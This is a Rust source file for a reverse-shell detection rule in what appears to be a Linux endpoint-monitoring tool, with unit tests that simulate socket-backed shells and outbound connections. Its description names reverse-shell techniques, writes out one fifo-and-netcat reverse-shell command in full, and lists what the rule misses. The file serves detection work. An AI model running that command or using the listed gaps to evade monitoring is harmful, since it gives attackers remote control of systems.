//! `reverse-shell`: a shell wired to a network connection the device made
//! (or holds): the attacker types into it from afar.

use std::{collections::BTreeMap, net::SocketAddr, path::PathBuf};

use chrono::{DateTime, Utc};

use super::{
    Bounded, PidMap, Rule, base_name, command_line, exec_path, is_command_shell, is_shell, procfs,
    program_name,
};
use crate::{
    detect::{Alert, DetectConfig, Detector, Severity},
    events::{Body, Event, Kind},
};

pub const RULE: Rule = Rule {
    id: "reverse-shell",
    title: "Reverse shell",
    severity: Severity::High,
    tags: &["attack.execution", "attack.t1059.004", "attack.command_and_control", "attack.t1071"],
    description: "Three signals, each named in the alert: (1) at a shell's exec, its stdin is a connected \
        TCP socket (read from /proc/PID/fd/0, and fd/1 then, when the exec event arrives; only for shells, so it \
        costs nothing for other programs), the shape of `nc -e`, `socat`, and the Python/Perl one-liners; (2) the \
        shell's process itself, or its parent, made an outgoing TCP connection to a non-loopback address within \
        5 seconds before the exec; (3) a command shell itself connects out (bash's /dev/tcp redirection). Both (1) \
        and (2) make it critical. Not seen: a shell fed through pipes by a separate network client \
        (`mkfifo f; sh <f | nc HOST PORT >f`), a shell that exited before /proc could be read (signal 1), a \
        connection older than 5 seconds or made by a grandparent (signal 2).",
    remediation: "Identify the remote address (details, or `ss -tp` while it lasts) and what started the shell \
        (parent, service, user). Kill the shell and its parent, block the address, and treat the device as \
        compromised: look for the entry point (an exploited service, stolen credentials) and persistence.",
};

/// Recent outgoing connections, one per process: at most this many.
const CONNECT_CAP: usize = 8192;
/// A connection counts for a shell started this long after it.
const WINDOW: chrono::Duration = chrono::Duration::seconds(5);

#[derive(Clone, Copy)]
struct Conn {
    time: DateTime<Utc>,
    to: SocketAddr,
}

pub struct ReverseShell {
    proc_root: PathBuf,
    recent: PidMap<Conn>,
}

impl ReverseShell {
    pub fn new(cfg: &DetectConfig) -> ReverseShell {
        ReverseShell { proc_root: cfg.proc_root.clone(), recent: Bounded::new(CONNECT_CAP) }
    }

    /// A connection of `pid` within the window before `at`.
    fn recent_connect(&self, pid: u32, at: DateTime<Utc>) -> Option<Conn> {
        self.recent.get(&pid).copied().filter(|c| c.time <= at && at - c.time <= WINDOW)
    }
}

impl Detector for ReverseShell {
    fn id(&self) -> &'static str {
        RULE.id
    }

    fn kinds(&self) -> &'static [Kind] {
        &[Kind::Exec, Kind::Exit, Kind::Connect]
    }

    fn observe(&mut self, ev: &Event, out: &mut Vec<Alert>) {
        match &ev.body {
            Body::Connect(s) => {
                if s.protocol != "tcp" || !matches!(s.status, "success" | "in_progress") {
                    return;
                }
                let (Some(addr), Some(port)) = (s.remote_addr, s.remote_port) else { return };
                let to = SocketAddr::new(addr, port);
                let exe = ev.exe.as_deref().unwrap_or(&ev.comm);
                // Once per connection: a blocking one's success, or the
                // outcome of a non-blocking one.
                if s.status == "success" && is_command_shell(base_name(exe)) {
                    let mut details = BTreeMap::new();
                    details.insert("signal", "shell_connect".to_owned());
                    details.insert("remote", to.to_string());
                    details.insert("shell", exe.to_owned());
                    out.push(RULE.alert(
                        ev,
                        Severity::High,
                        format!("The shell {exe} (pid {}) itself connected to {to} (signal 3).", ev.pid),
                        details,
                    ));
                }
                if !addr.is_loopback() {
                    self.recent.insert(ev.pid, Conn { time: ev.time, to });
                }
            }
            Body::Exit(_) => {
                self.recent.remove(&ev.pid);
            }
            Body::Exec(x) if x.success => {
                if !is_shell(program_name(ev, x), &x.argv) {
                    return;
                }
                let conn =
                    self.recent_connect(ev.pid, ev.time).map(|c| ("the shell's process", c)).or_else(|| {
                        ev.ppid.and_then(|p| self.recent_connect(p, ev.time)).map(|c| ("its parent", c))
                    });
                // The shell's stdin, while it still runs (one readlink for
                // most shells: a pipe or a terminal); stdout only when stdin
                // is a TCP socket, for the details.
                let tcp = |fd| {
                    procfs::fd_tcp_socket(&self.proc_root, ev.pid, fd)
                        .filter(|s| s.state != procfs::TCP_LISTEN)
                        .map(|s| (fd, s))
                };
                let stdio: Vec<(i32, procfs::TcpSocket)> = match tcp(0) {
                    Some(s0) => std::iter::once(s0).chain(tcp(1)).collect(),
                    None => Vec::new(),
                };
                if conn.is_none() && stdio.is_empty() {
                    return;
                }
                let shell = exec_path(ev, x);
                let mut details = BTreeMap::new();
                details.insert("shell", shell.to_owned());
                details.insert("command_line", command_line(&x.argv));
                let mut what = format!("Shell {shell} (pid {})", ev.pid);
                let mut signals = Vec::new();
                if let Some((_, s)) = stdio.first() {
                    let fds: Vec<&str> =
                        stdio.iter().map(|(fd, _)| if *fd == 0 { "stdin" } else { "stdout" }).collect();
                    let peer = SocketAddr::new(s.remote.0, s.remote.1);
                    what.push_str(&format!(
                        " has its {} connected to the TCP peer {peer} (signal 1)",
                        fds.join(" and ")
                    ));
                    details.insert("stdio_socket", fds.join(","));
                    details.insert("remote", peer.to_string());
                    signals.push("stdio_socket");
                }
                if let Some((who, c)) = conn {
                    if !signals.is_empty() {
                        what.push_str(" and");
                    }
                    let ms = (ev.time - c.time).num_milliseconds();
                    what.push_str(&format!(" started {ms} ms after {who} connected to {} (signal 2)", c.to));
                    details.insert("connected", c.to.to_string());
                    details.entry("remote").or_insert_with(|| c.to.to_string());
                    signals.push("connect");
                }
                what.push('.');
                details.insert("signal", signals.join(","));
                let severity = match signals.len() {
                    2 => Severity::Critical,
                    _ if signals[0] == "stdio_socket" => Severity::High,
                    _ => Severity::Medium,
                };
                out.push(RULE.alert(ev, severity, what, details));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::builtin::testing::*;

    fn detector() -> (Scratch, ReverseShell) {
        let s = Scratch::new("rs");
        let d = ReverseShell::new(&s.config());
        (s, d)
    }

    /// Process `pid` of the fake proc root has a connected TCP socket as
    /// stdin and stdout (inode 9000, peer 10.0.0.9:4444).
    fn socket_stdio(s: &Scratch, pid: u32) {
        s.write(
            &format!("{pid}/net/tcp"),
            &format!("{TCP_HEADER}{}", tcp_line(([10, 0, 0, 2], 50000), ([10, 0, 0, 9], 4444), 0x01, 9000)),
        );
        s.link(&format!("{pid}/fd/0"), "socket:[9000]");
        s.link(&format!("{pid}/fd/1"), "socket:[9000]");
        s.link(&format!("{pid}/fd/2"), "/dev/null");
    }

    #[test]
    fn a_shell_on_a_socket_fires_high() {
        let (s, mut d) = detector();
        socket_stdio(&s, 500);
        let shell = exec(1.0, 500, 499, "/bin/sh", &["sh", "-i"]);
        let alerts = run(&mut d, std::slice::from_ref(&shell));
        assert_eq!(alerts.len(), 1);
        let a = &alerts[0];
        assert_eq!((&*a.rule, a.severity), ("reverse-shell", Severity::High));
        assert_eq!(*a.event, shell);
        assert_eq!(a.details["signal"], "stdio_socket");
        assert_eq!(a.details["stdio_socket"], "stdin,stdout");
        assert_eq!(a.details["remote"], "10.0.0.9:4444");
        assert!(a.description.contains("signal 1"), "{}", a.description);
        // A shell whose stdio is a Unix socket (a systemd service's journal) or a pipe: nothing.
        s.link("501/fd/0", "/dev/null");
        s.link("501/fd/1", "socket:[1234]");
        s.write("501/net/tcp", TCP_HEADER);
        assert!(run(&mut d, &[exec(2.0, 501, 1, "/bin/sh", &["sh"])]).is_empty());
        // A program that is not a shell on a socket (an inetd service): nothing here.
        socket_stdio(&s, 502);
        assert!(run(&mut d, &[exec(3.0, 502, 1, "/usr/sbin/in.tftpd", &["in.tftpd"])]).is_empty());
    }

    #[test]
    fn a_connect_before_the_exec_fires_medium_or_critical_with_the_socket() {
        let (s, mut d) = detector();
        // python connects, forks, the child execs sh: the parent's connection.
        let shell = exec(10.5, 601, 600, "/bin/bash", &["/bin/bash", "-i"]);
        let alerts =
            run(&mut d, &[connect(10.0, 600, "203.0.113.5", 443), fork(10.1, 600, 601), shell.clone()]);
        assert_eq!(alerts.len(), 1);
        assert_eq!((alerts[0].severity, alerts[0].details["signal"].as_str()), (Severity::Medium, "connect"));
        assert!(
            alerts[0].description.contains("its parent connected to 203.0.113.5:443"),
            "{}",
            alerts[0].description
        );
        // nc -e: the same process connects then execs the shell on the socket.
        socket_stdio(&s, 700);
        let alerts =
            run(&mut d, &[connect(20.0, 700, "203.0.113.5", 4444), exec(20.2, 700, 1, "/bin/sh", &["sh"])]);
        assert_eq!(
            (alerts[0].severity, alerts[0].details["signal"].as_str()),
            (Severity::Critical, "stdio_socket,connect")
        );
        // Too late, loopback, a refused connection, not a shell: nothing.
        let events = [
            connect(30.0, 800, "203.0.113.5", 443),
            exec(36.0, 800, 1, "/bin/sh", &["sh"]),
            connect(40.0, 801, "127.0.0.1", 443),
            exec(40.1, 801, 1, "/bin/sh", &["sh"]),
            event(50.0, 802, Body::Connect(sock(None, Some(("203.0.113.5", 1)), "refused"))),
            exec(50.1, 802, 1, "/bin/sh", &["sh"]),
            connect(60.0, 803, "203.0.113.5", 443),
            exec(60.1, 803, 1, "/usr/bin/curl", &["curl"]),
        ];
        assert!(run(&mut d, &events).is_empty());
    }

    #[test]
    fn a_shell_connecting_out_fires() {
        let (_s, mut d) = detector();
        let mut c = connect(1.0, 900, "198.51.100.7", 9001);
        c.exe = Some("/usr/bin/bash".into());
        let alerts = run(&mut d, &[c.clone(), connect(1.1, 901, "198.51.100.7", 9001)]);
        assert_eq!(alerts.len(), 1);
        assert_eq!(
            (alerts[0].details["signal"].as_str(), alerts[0].severity),
            ("shell_connect", Severity::High)
        );
        assert_eq!(*alerts[0].event, c);
    }

    #[test]
    fn state_stays_bounded_under_churn() {
        let (_s, mut d) = detector();
        let mut out = Vec::new();
        for pid in 0..1_000_000u32 {
            d.observe(&connect(0.0, pid, "203.0.113.5", 443), &mut out);
        }
        assert!(out.is_empty());
        assert!(d.recent.len() <= CONNECT_CAP && d.recent.queue_len() <= 2 * CONNECT_CAP + 16);
        // The newest are kept.
        assert!(d.recent.contains(&999_999));
    }
}
